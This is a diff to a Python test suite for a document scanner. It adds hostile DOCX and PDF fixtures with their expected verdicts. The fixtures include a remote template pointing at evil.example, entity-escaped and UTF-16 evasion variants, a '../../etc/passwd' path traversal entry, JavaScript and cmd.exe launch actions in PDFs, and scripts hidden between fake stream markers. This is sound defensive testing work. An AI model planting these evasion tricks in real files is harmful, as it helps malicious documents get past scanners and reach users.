@@ -11,6 +11,10 @@ CONTENT_TYPES = (
     '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
     'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 )
+LINKED = (
+    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/hyperlink" '
+    'Target="https://city.example/" TargetMode="External"/></Relationships>'
+)
 RELATIONS = '<?xml version="1.0"?><Relationships></Relationships>'
 
 
@@ -65,6 +69,22 @@ def pdf(inside=b"", packed=None, tail=b""):
     return body + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + tail
 
 
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+FORM = b"<< /XFA [(template) 9 0 R] >>"
+
+
+def between_streams(hidden, start=b"% stream", end=b"% endstream"):
+    """Something that seems to be a part of a stream, and isn't."""
+    far = b"\n%" + b"-" * 200 + b"\n"
+    return pdf(b">>\nendobj\n" + start + far + hidden + far + end + b"\n4 0 obj\n<<")
+
+
+def packed_as(name, before=b""):
+    """Packed objects under another spelling, or with much before them."""
+    whole = pdf(packed=b"1 0 " + SCRIPT)
+    return whole.replace(b"<< /Type /ObjStm", b"<< /Type " + name + before)
+
+
 def zipped(parts, method=zipfile.ZIP_DEFLATED, stored=()):
     packed = io.BytesIO()
     with zipfile.ZipFile(packed, "w", method) as archive:
@@ -86,24 +106,35 @@ def docx(**parts):
 
 
 def office(part):
-    return zipped({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELATIONS, part: "<x/>"})
+    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": LINKED, part: "<x/>"}
+    return zipped(parts)
 
 
 def open_document(kind):
     parts = {
         "mimetype": f"application/vnd.oasis.opendocument.{kind}",
         "content.xml": "<office:document-content/>",
-        "META-INF/manifest.xml": "<manifest/>",
+        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:x"/>',
     }
     return zipped(parts, stored=("mimetype",))
 
 
-def remote_template():
-    relation = (
-        '<Relationships><Relationship Type="http://x/attachedTemplate" '
-        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
-    )
+REMOTE_TEMPLATE = (
+    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/attachedTemplate" '
+    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def related(relation):
     return docx(**{"word/_rels/settings.xml.rels": relation})
+
+
+def with_type(kind):
+    """Some part of the document is of this kind."""
+    types = CONTENT_TYPES.replace(
+        "</Types>", f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'
+    )
+    return zipped({"[Content_Types].xml": types, "word/document.xml": "<x/>"})
 
 
 def locked_zip():
@@ -155,17 +186,15 @@ HOSTILE = {
     "slip.docx": (docx(**{"../../etc/passwd": "x"}), "BROKEN"),
     "locked.docx": (locked_zip(), "LOCKED"),
     "macros.docx": (docx(**{"word/vbaProject.bin": "x"}), "MACROS"),
-    "macro-type.docx": (
-        zipped(
-            {
-                "[Content_Types].xml": "<Types>vnd.ms-word.document.macroEnabled</Types>",
-                "word/document.xml": "<x/>",
-            }
-        ),
-        "MACROS",
-    ),
+    "macro-type.docx": (with_type("application/vnd.ms-word.document.macroEnabled"), "MACROS"),
+    "spelt-macro-type.docx": (with_type("application/vnd.ms-office.&#118;baProject"), "MACROS"),
     "object.docx": (docx(**{"word/embeddings/oleObject1.bin": "x"}), "EMBEDDED"),
-    "template.docx": (remote_template(), "REMOTE"),
+    "template.docx": (related(REMOTE_TEMPLATE), "REMOTE"),
+    "wide-template.docx": (related(REMOTE_TEMPLATE.encode("utf-16")), "REMOTE"),
+    "spelt-template.docx": (related(REMOTE_TEMPLATE.replace('"E', '"&#69;')), "REMOTE"),
+    "capital-template.docx": (docx(**{"word/_rels/A.RELS": REMOTE_TEMPLATE}), "REMOTE"),
+    "odd-encoding.docx": (related(REMOTE_TEMPLATE.replace("?>", " encoding='x'?>")), "BROKEN"),
+    "half-read.docx": (related("<Relationships>"), "BROKEN"),
     "entities.docx": (
         docx(**{"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
         "BROKEN",
@@ -173,6 +202,21 @@ HOSTILE = {
     "script.pdf": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "PDF_PROGRAM"),
     "spelt.pdf": (pdf(b"/OpenAction << /S /J#61vaScript >>"), "PDF_PROGRAM"),
     "hidden-script.pdf": (pdf(packed=b"1 0 << /S /JavaScript /JS (x) >>"), "PDF_PROGRAM"),
+    "comment.pdf": (between_streams(b"5 0 obj\n" + FORM + b"\nendobj"), "PDF_PROGRAM"),
+    "comment-ends.pdf": (between_streams(FORM, start=b"% << >> stream"), "PDF_PROGRAM"),
+    "in-a-stream.pdf": (
+        between_streams(
+            b"5 %\n0 obj\n" + FORM + b"\nendobj", b"8 0 obj\n<< >>\nstream", b"endstream"
+        ),
+        "PDF_PROGRAM",
+    ),
+    "in-a-string.pdf": (
+        between_streams(SCRIPT, b"5 0 obj\n<< /A (>>\nstream", b"/C (\nendstream) >>\nendobj"),
+        "PDF_PROGRAM",
+    ),
+    "spelt-objects.pdf": (packed_as(b"/Obj#53tm"), "PDF_PROGRAM"),
+    "far-objects.pdf": (packed_as(b"/ObjStm", b" " * 900), "PDF_PROGRAM"),
+    "commented-objects.pdf": (packed_as(b"/ObjStm % stream\n% endstream\n"), "BROKEN"),
     "launch.pdf": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "PDF_PROGRAM"),
     "inside.pdf": (pdf(b"/Names << /EmbeddedFiles 5 0 R >>"), "PDF_FILES"),
     "locked.pdf": (pdf(b"/Encrypt 4 0 R"), "LOCKED"),
